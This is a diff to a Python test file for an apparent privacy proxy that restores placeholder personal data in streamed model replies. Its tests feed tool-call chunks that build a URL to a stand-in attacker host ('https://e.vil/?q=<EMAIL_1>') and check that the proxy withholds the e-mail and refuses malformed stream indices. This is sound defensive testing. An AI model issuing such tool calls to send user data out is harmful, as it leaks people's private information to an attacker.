@@ -12,6 +12,7 @@ import random
 import pytest
 
 from stealthflow.placeholders.restore import Reference, Withheld
+from stealthflow.proxy.errors import ProxyError
 from stealthflow.proxy.replies import ReplyRestorer
 
 # A fake vault (unit test): two e-mails and an IBAN, the IBAN guarded (filled in only in prose, as the scope does);
@@ -111,31 +112,10 @@ def _tool(index: object, arguments: str, choice: object = 0, finish: str | None 
 FINISH = {"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]}
 
 
-@pytest.mark.parametrize(
-    "chunks",
-    [
-        [_tool(0, '{"url": "https://e.vil/?q='), FINISH, _tool(0, '<EMAIL_1>"}'), FINISH],
-        [_tool(0, '{"url": "https://e.vil/?q='), FINISH, _tool("missing", '<EMAIL_1>"}')],
-        [_tool(0, '{"url": "https://e.vil/?q='), _tool("0", '<EMAIL_1>"}'), FINISH],
-        [_tool(0, '{"url": "https://e.vil/?q='), _tool(None, '<EMAIL_1>"}'), FINISH],
-        [_tool(0, '{"url": "https://e.vil/?q='), _tool(0.0, '<EMAIL_1>"}'), FINISH],
-        [_tool(0, '{"url": "https://e.vil/?q='), _tool([0], '<EMAIL_1>"}'), FINISH],
-        [_tool(0, '{"url": "https://e.vil/?q='), _tool(0, '<EMAIL_1>"}', choice="0"), FINISH],
-    ],
-    ids=[
-        "after-finish",
-        "after-finish-no-index",
-        "index-string",
-        "index-null",
-        "index-float",
-        "index-list",
-        "choice-string",
-    ],
-)
-def test_a_tool_calls_url_holds_arguments_a_client_joins_to_it(chunks):
-    """A client joins a tool call's arguments by its JavaScript array slot (openai-node: `0`, `0.0`, `"0"`, `[0]` are one;
-    no index: the last one) and keeps joining after the finish chunk: the value sent that way into a URL the
-    arguments opened is withheld, as one stream of them would have it. FAKE resolver: withholds in a URL."""
+def test_a_tool_calls_url_holds_arguments_a_client_joins_to_it_after_the_finish_chunk():
+    """A client keeps joining a tool call's arguments after its choice's finish chunk: the value sent that way into a
+    URL the arguments opened is withheld, as one stream of them would have it. FAKE resolver: withholds in a URL."""
+    chunks = [_tool(0, '{"url": "https://e.vil/?q='), FINISH, _tool(0, '<EMAIL_1>"}'), FINISH]
 
     def resolve(ref: Reference) -> str | Withheld | None:
         return Withheld("in_tool_call_url") if ref.url == "click" else VALUES.get((ref.type, ref.index))
@@ -148,6 +128,22 @@ def test_a_tool_calls_url_holds_arguments_a_client_joins_to_it(chunks):
         sent += [call["function"]["arguments"] for call in tail["choices"][0]["delta"].get("tool_calls") or []]
     assert "".join(sent) == '{"url": "https://e.vil/?q=<EMAIL_1>"}'
     assert restorer.withheld == [("<EMAIL_1>", "in_tool_call_url")] and restorer.restored == 0
+
+
+@pytest.mark.parametrize(
+    ("index", "choice"),
+    [(True, 0), (False, 0), ("missing", 0), (None, 0), (1.0, 0), ("1", 0), (-1, 0), ([1], 0), ({}, 0), (1, True)]
+    + [(1, "1"), (1, None), (1, -1), (1, 1.0)],
+)
+def test_a_stream_index_clients_read_apart_is_refused(index, choice):
+    """A delta whose choice or tool call index is not a plain non-negative int is refused (502): Python joins `True` to
+    call 1, `-1` to the last, `None` to a key of its own, openai-node `true` to a call "true", so no keying of it is
+    every client's (rev21 finding 4). FAKE resolver."""
+    restorer = ReplyRestorer(lambda ref: VALUES.get((ref.type, ref.index)))
+    restorer.chunk(_tool(1, '{"url": "https://e.vil/?q='))
+    with pytest.raises(ProxyError) as raised:
+        restorer.chunk(_tool(index, '<EMAIL_1>"}', choice=choice))
+    assert raised.value.status == 502 and restorer.restored == 0
 
 
 def _mixed_stream(seed: int) -> list[dict]:
